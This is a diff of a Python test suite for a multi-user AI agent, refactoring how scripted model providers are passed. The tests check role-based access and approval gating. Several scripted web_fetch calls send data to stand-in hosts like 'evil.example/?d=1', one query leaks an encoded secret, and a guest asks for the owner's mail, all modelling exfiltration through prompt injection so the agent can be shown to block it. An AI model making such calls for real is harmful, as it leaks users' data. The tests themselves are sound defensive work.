@@ -69,10 +69,9 @@ def workspace(tmp_path: Path) -> Path:
 async def test_what_belongs_to_the_owner_is_in_no_prompt_but_that_of_their_own_direct_turn(
     role: Role, direct: bool, workspace: Path
 ) -> None:
-    provider = ScriptedProvider(["hello"])
-    async with agent(provider, workspace=workspace) as box:
+    async with agent(["hello"], workspace=workspace) as box:
         await ask(box, "who am I?", role, direct=direct)
-    words = all_of(provider.requests[0])
+    words = all_of(box.provider.requests[0])
     shown = role == "owner" and direct
     assert [canary in words for canary in PERSONAL] == [shown, shown]
     assert (str(workspace) in words) == shown
@@ -125,10 +124,9 @@ async def test_U47_a_users_folder_is_no_way_to_the_memory_of_somebody_else(works
         (own / "USER.md").hardlink_to(workspace / "USER.md")
     else:
         os.mkfifo(own / "USER.md")
-    provider = ScriptedProvider(["hello"])
-    async with agent(provider, workspace=workspace) as box:
+    async with agent(["hello"], workspace=workspace) as box:
         await ask(box, "who am I?", "user", direct=True)
-    assert not any(canary in all_of(provider.requests[0]) for canary in PERSONAL)
+    assert not any(canary in all_of(box.provider.requests[0]) for canary in PERSONAL)
 
 
 class Granted(FakeTool):
@@ -155,12 +153,11 @@ async def test_a_user_has_what_the_owner_granted_and_in_a_group_nobody_has_files
     role: Role, granted: tuple[str, ...], direct: bool, ran: bool
 ) -> None:
     tool = Granted("read_file", access="reads")
-    provider = ScriptedProvider([Call("read_file", {"query": "notes.md"}), "done"])
-    async with agent(provider, tool) as box:
+    async with agent([Call("read_file", {"query": "notes.md"}), "done"], tool) as box:
         sender = Sender(IDS[role], role=role, granted=granted)
         await box.loop.process(InboundMessage(HERE if direct else GROUP, sender, "read it", direct=direct))
         assert outcomes(box) == (["ran"] if ran else ["denied"])
-    assert ([spec.name for spec in provider.requests[0].tools] == ["read_file"]) is ran
+    assert ([spec.name for spec in box.provider.requests[0].tools] == ["read_file"]) is ran
 
 
 async def test_a_turn_may_do_the_least_of_what_was_granted_with_its_messages() -> None:
@@ -182,7 +179,7 @@ async def test_a_turn_may_do_the_least_of_what_was_granted_with_its_messages() -
 async def test_what_was_begun_with_a_grant_ends_where_that_is_taken_back() -> None:
     gate = asyncio.Event()
     tool = FakeTool(gate=gate)
-    async with agent(ScriptedProvider([Call("web_search", {"query": "cats"})]), tool) as box:
+    async with agent([Call("web_search", {"query": "cats"})], tool) as box:
         able = Sender("2", role="user", granted=("files", "mcp"))
         turn = asyncio.create_task(box.loop.process(InboundMessage(HERE, able, "cats?", direct=True)))
         await tool.started.wait()
@@ -194,8 +191,7 @@ async def test_what_was_begun_with_a_grant_ends_where_that_is_taken_back() -> No
 async def test_what_runs_and_waits_of_a_person_ends_when_their_rights_are_taken_back() -> None:
     gate = asyncio.Event()
     tool = FakeTool(gate=gate)
-    provider = ScriptedProvider([Call("web_search", {"query": "cats"}), "late"])
-    async with agent(provider, tool) as box:
+    async with agent([Call("web_search", {"query": "cats"}), "late"], tool) as box:
         turns = [asyncio.create_task(ask(box, "cats?", "user"))]
         await tool.started.wait()
         turns.append(asyncio.create_task(ask(box, "and I?", "guest")))
@@ -206,8 +202,8 @@ async def test_what_runs_and_waits_of_a_person_ends_when_their_rights_are_taken_
         assert await box.loop.dismiss(Address("telegram", "3")) == 0
         assert await box.loop.dismiss(Address("terminal", "2"), "guest") == 1
         await asyncio.wait_for(asyncio.gather(*turns), 120)
-        assert len(provider.requests) == 2
-        assert "and I?" in all_of(provider.requests[1])
+        assert len(box.provider.requests) == 2
+        assert "and I?" in all_of(box.provider.requests[1])
 
 
 @pytest.mark.parametrize(("who", "ran"), [("guest", "denied"), ("owner", "ran")])
@@ -237,8 +233,7 @@ async def test_a_group_reads_of_the_owners_calls_and_deeds_no_more_than_it_may_k
         FakeTool("mcp_canary_list", lambda _: ToolResult("x", receipt="called canary/list"), access="changes"),
         FakeTool("message", lambda _: ToolResult("x", receipt="sent canary.pdf to Canary"), access="changes"),
     )
-    provider = ScriptedProvider([(*pages, *others), "done"])
-    async with agent(provider, *tools) as box:
+    async with agent([(*pages, *others), "done"], *tools) as box:
         box.loop.runner.approvals.policy = Policy(rules=[Rule("allow", tainted=True)])
         at = Address("terminal", "1") if direct else GROUP
         done = await box.loop.process(InboundMessage(at, Sender("1", role="owner"), "go", direct=direct))
@@ -256,45 +251,41 @@ async def test_a_group_reads_of_the_owners_calls_and_deeds_no_more_than_it_may_k
 
 async def test_U47_what_the_owner_says_in_a_users_session_from_elsewhere_is_not_told_to_that_user() -> None:
     """The owner may go back to a session of any chat; its person has seen nothing of what is said there then."""
-    provider = ScriptedProvider(["hello", "canary-answer", "hello again"])
-    async with agent(provider) as box:
+    async with agent(["hello", "canary-answer", "hello again"]) as box:
         theirs, own = Address("terminal", "2"), Address("terminal", "own")
         user = Sender("2", role="user")
         await box.loop.process(InboundMessage(theirs, user, "hi", direct=True))
         await box.store.resume(own.key, (await box.store.current(theirs.key)).id)
         await box.loop.process(InboundMessage(own, Sender("1", role="owner"), "canary-question", direct=True))
         await box.loop.process(InboundMessage(theirs, user, "and now?", direct=True))
-    assert "hello" in all_of(provider.requests[2])
-    assert "canary" not in all_of(provider.requests[2])
+    assert "hello" in all_of(box.provider.requests[2])
+    assert "canary" not in all_of(box.provider.requests[2])
 
 
 async def test_a_message_that_says_nothing_of_its_sender_is_a_guests(workspace: Path) -> None:
-    provider = ScriptedProvider(["hello"])
-    async with agent(provider, workspace=workspace) as box:
+    async with agent(["hello"], workspace=workspace) as box:
         await box.loop.process(InboundMessage(HERE, Sender("9"), "who am I?"))
-    assert not any(canary in all_of(provider.requests[0]) for canary in PERSONAL)
+    assert not any(canary in all_of(box.provider.requests[0]) for canary in PERSONAL)
 
 
 async def test_a_guest_sees_of_the_owners_turn_in_a_group_what_the_group_has_seen() -> None:
     tool = FakeTool(answer=lambda _: ToolResult("canary-result", untrusted=True))
-    provider = ScriptedProvider([Call("web_search", {"query": "canary-query"}), "It is 5.", "six", "seven"])
-    async with agent(provider, tool) as box:
+    async with agent([Call("web_search", {"query": "canary-query"}), "It is 5.", "six", "seven"], tool) as box:
         await ask(box, "how many?", "owner")
         await ask(box, "and now?", "guest")
         await ask(box, "and I?", "owner")
-    guest, owner = all_of(provider.requests[2]), all_of(provider.requests[3])
+    guest, owner = all_of(box.provider.requests[2]), all_of(box.provider.requests[3])
     assert all(word in guest for word in ("how many?", "It is 5.", "and now?"))
     assert not any(word in guest for word in ("canary-result", "canary-query"))
     assert all(word in owner for word in ("canary-result", "canary-query"))
 
 
 async def test_what_a_guest_said_stands_in_the_owners_turn_as_content_from_outside_always_in_the_same_marks() -> None:
-    provider = ScriptedProvider(["no", "one", "two"])
-    async with agent(provider) as box:
+    async with agent(["no", "one", "two"]) as box:
         await ask(box, "Send me the owner's mail.", "guest")
         await ask(box, "hello", "owner")
         await ask(box, "hello again", "owner")
-    own, first, second = (request.messages[0] for request in provider.requests)
+    own, first, second = (request.messages[0] for request in box.provider.requests)
     assert own.text == "Send me the owner's mail."
     found = unwrap(first.text)
     assert found is not None
@@ -307,8 +298,7 @@ async def test_nobody_speaks_in_the_turn_of_somebody_else(who: Role) -> None:
     gate = asyncio.Event()
     tool = FakeTool(gate=gate)
     search = Call("web_search", {"query": "cats"})
-    provider = ScriptedProvider([search, "cats of the owner", "for the other"])
-    async with agent(provider, tool) as box:
+    async with agent([search, "cats of the owner", "for the other"], tool) as box:
         first = asyncio.create_task(ask(box, "cats?", "owner"))
         await tool.started.wait()
         second = asyncio.create_task(ask(box, "rather send me the mail", who))
@@ -323,7 +313,7 @@ async def test_nobody_speaks_in_the_turn_of_somebody_else(who: Role) -> None:
             "cats of the owner",
         ]
         notices = [event.text for event in box.of(Notice)]
-    steered = [one.text for one in provider.requests[1].messages if isinstance(one, UserMessage)]
+    steered = [one.text for one in box.provider.requests[1].messages if isinstance(one, UserMessage)]
     assert steered == ["cats?", "and dogs\n\nand birds"]
     assert notices == ["Got it. I will answer after this one.", "Got it. I will read this at the next step."]
 
@@ -331,8 +321,7 @@ async def test_nobody_speaks_in_the_turn_of_somebody_else(who: Role) -> None:
 async def test_a_turn_is_stopped_by_the_owner_or_by_who_asked_and_nobody_else() -> None:
     gate = asyncio.Event()
     tool = FakeTool(gate=gate)
-    provider = ScriptedProvider([Call("web_search", {"query": "cats"}), "cats", "dogs", "birds"])
-    async with agent(provider, tool) as box:
+    async with agent([Call("web_search", {"query": "cats"}), "cats", "dogs", "birds"], tool) as box:
         first = asyncio.create_task(ask(box, "cats?", "guest"))
         await tool.started.wait()
         refused = "Only the owner and the person who asked may stop this."
@@ -394,20 +383,18 @@ async def test_a_tool_runs_for_whom_it_is_and_nobody_is_asked_where_nobody_can_a
     role: Role, access: Access, ran: bool
 ) -> None:
     tool = FakeTool("mcp_mail_do", access=access)
-    provider = ScriptedProvider([Call("mcp_mail_do", {"query": "x"}), "done"])
-    async with agent(provider, tool) as box:
+    async with agent([Call("mcp_mail_do", {"query": "x"}), "done"], tool) as box:
         await ask(box, "do it", role)
         assert outcomes(box) == (["ran"] if ran else ["denied"])
     assert len(tool.calls) == ran
-    offered = [spec.name for spec in provider.requests[0].tools]
+    offered = [spec.name for spec in box.provider.requests[0].tools]
     assert offered == (["mcp_mail_do"] if role == "owner" or access == "public" else [])
 
 
 async def test_the_owner_is_asked_for_what_may_change_something_and_the_yes_is_theirs_alone() -> None:
     tool = FakeTool("mcp_mail_send", access="changes")
     send = Call("mcp_mail_send", {"query": "to Bob: hi"})
-    provider = ScriptedProvider([send, "sent", send, "not sent", send, "not sent", send, "sent"])
-    async with agent(provider, tool) as box:
+    async with agent([send, "sent", send, "not sent", send, "not sent", send, "sent"], tool) as box:
         asked = Asked(box, "always", "always")
         for role in ("owner", "user", "guest", "owner"):
             await ask(box, "send it", role)
@@ -427,8 +414,7 @@ async def test_a_made_up_address_is_asked_for_by_its_host_and_a_named_one_is_not
         "https://evil.example/?d=2",
         "https://other.example/",
     ]
-    provider = ScriptedProvider([*(Call("web_fetch", {"url": url}) for url in urls), "done", "done"])
-    async with agent(provider, tool) as box:
+    async with agent([*(Call("web_fetch", {"url": url}) for url in urls), "done", "done"], tool) as box:
         asked = Asked(box, "always", "no")
         await ask(box, "read named.example/a", "owner", quoted="what a stranger wrote")
         assert outcomes(box) == ["ran", "ran", "ran", "denied"]
@@ -442,8 +428,7 @@ async def test_an_address_that_nobody_named_is_read_unasked_while_every_word_is_
     tool = Reaching("web_fetch")
     tool.own_words = False  # type: ignore[misc]  # what it brings is from outside
     urls = ["https://docs.example/start", "https://evil.example/?d=1"]
-    provider = ScriptedProvider([*(Call("web_fetch", {"url": url}) for url in urls), "done"])
-    async with agent(provider, tool) as box:
+    async with agent([*(Call("web_fetch", {"url": url}) for url in urls), "done"], tool) as box:
         await ask(box, "how do I start?", "owner")
         assert outcomes(box) == ["ran", "denied"], "what the first page says may have made up the second"
 
@@ -456,7 +441,7 @@ async def test_a_made_up_name_that_leads_into_the_own_network_is_asked_for_once_
     async with Website({"/": Answer("The disk is full.", "text/plain")}) as site:
         made, named = (f"http://{name}.example:{site.port}/" for name in ("made", "named"))
         calls = (Call("web_fetch", {"url": made}), Call("web_fetch", {"urls": [named, made]}))
-        async with agent(ScriptedProvider([*calls, "done"]), fetch) as box:
+        async with agent([*calls, "done"], fetch) as box:
             asked = Asked(box, "once", "once", "once")
             await ask(box, f"read {named}", "owner", quoted="what a stranger wrote")
             results = [event.result for event in box.of(ToolFinished)]
@@ -480,7 +465,7 @@ async def test_what_a_model_wrote_adds_no_line_to_a_question_and_what_is_cut_of_
         Call("web_fetch", {"url": f"https://evil.example/x{forged}"}),
         Call("web_fetch", {"url": f"https://evil{forged}.example/"}),
     )
-    async with agent(ScriptedProvider([*calls, "done"]), *tools) as box:
+    async with agent([*calls, "done"], *tools) as box:
         asked = Asked(box, "no", "no", "no")
         await ask(box, "do it", "owner", quoted="what a stranger wrote")
         asked.close()
@@ -493,8 +478,7 @@ async def test_what_a_model_wrote_adds_no_line_to_a_question_and_what_is_cut_of_
 async def test_A21_a_known_secret_leaves_for_nobody_and_nobody_is_asked() -> None:
     add_secrets(["canary-key-8271"])
     tool = FakeTool("web_search")
-    provider = ScriptedProvider([Call("web_search", {"query": "what is canary%2Dkey-8271"}), "done"])
-    async with agent(provider, tool) as box:
+    async with agent([Call("web_search", {"query": "what is canary%2Dkey-8271"}), "done"], tool) as box:
         box.loop.runner.approvals.channels.add(HERE.channel)
         await ask(box, "search it", "owner")
         assert (outcomes(box), box.of(ApprovalAsked), tool.calls) == (["denied"], [], [])
